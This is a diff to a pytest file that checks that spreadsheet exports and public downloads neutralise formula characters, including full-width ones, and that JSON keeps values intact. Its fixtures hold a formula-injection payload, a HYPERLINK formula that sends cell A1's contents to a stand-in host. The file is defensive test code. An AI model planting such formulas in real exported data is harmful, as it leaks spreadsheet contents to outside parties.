@@ -1,4 +1,7 @@
-"""Exports a spreadsheet opens safely: no cell runs as a formula; JSON keeps the exact text."""
+"""Exports a spreadsheet opens safely: no cell runs as a formula; JSON keeps the exact text.
+
+Every path that writes cells is covered: the admin's export (CSV, XLSX) and the public downloads.
+"""
 
 import csv
 import io
@@ -7,21 +10,27 @@ import json
 import openpyxl
 import pytest
 
+from tiers import downloads
 from tiers.importing.files import export_bytes, import_file
-from tiers.importing.formats import CSVFormat, JSONFormat, XLSXFormat
-from tiers.models import Actor
+from tiers.importing.formats import CSVFormat, JSONFormat, XLSXFormat, neutralise
+from tiers.models import Actor, Visibility
 from tiers.tests.import_support import references  # noqa: F401 (a fixture)
 
-TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]
+# ASCII, then full-width (U+FF1D, U+FF0B, U+FF0D, U+FF20), which spreadsheets also run.
+TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"]
 DANGEROUS = {t: f'{t}HYPERLINK("https://example.org/?leak="&A1,"click")' for t in TRIGGERS}
 
 
 @pytest.fixture
-def dangerous_actors(request):
+def dangerous_actors(db, request):
     request.getfixturevalue("references")
     for n, (trigger, name) in enumerate(DANGEROUS.items()):
         Actor.objects.create(
-            slug=f"dangerous-{n}", name=name, kind="organisation", description=trigger
+            slug=f"dangerous-{n}",
+            name=name,
+            kind="organisation",
+            description=trigger,
+            visibility=Visibility.PUBLISHED,  # in the public downloads too
         )
 
 
@@ -76,3 +85,42 @@ def test_the_values_come_back_as_typed_in_every_format(dangerous_actors, file_fo
     assert result.messages() == []
     stored = dict(Actor.objects.filter(slug__startswith="dangerous-").values_list("slug", "name"))
     assert stored == {f"dangerous-{n}": name for n, name in enumerate(DANGEROUS.values())}
+
+
+def xlsx_records(data):
+    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
+    header = [cell.value for cell in sheet[1]]
+    return [
+        dict(zip(header, (c.value for c in row), strict=True)) for row in sheet.iter_rows(min_row=2)
+    ]
+
+
+def download(type_name, extension):
+    return b"".join(downloads.stream(type_name, extension, downloads.now()))
+
+
+@pytest.mark.parametrize("extension", ["csv", "xlsx"])
+def test_the_public_downloads_neutralise_every_formula_character(dangerous_actors, extension):
+    data = download("actors", extension)
+    if extension == "csv":
+        rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+    else:
+        rows = xlsx_records(data)
+    names = exported_names(rows)
+    assert len(names) == len(TRIGGERS)
+    for name, description in names.values():
+        assert name.startswith("'") and description.startswith("'"), (name, description)
+
+
+@pytest.mark.parametrize("trigger", ["＝", "＋", "－", "＠"])
+def test_full_width_formula_characters_are_neutralised_and_restored(trigger):
+    from tiers.importing.formats import restore
+
+    assert neutralise(f"{trigger}SUM(A1:A9)") == f"'{trigger}SUM(A1:A9)"
+    assert restore(neutralise(f"{trigger}SUM(A1:A9)")) == f"{trigger}SUM(A1:A9)"
+
+
+@pytest.mark.parametrize("text", ["=", "A=B", "x＝1", "'quoted", "", "1.5"])
+def test_other_text_is_left_alone(text):
+    expected = "'" + text if text.startswith("=") else text
+    assert neutralise(text) == expected
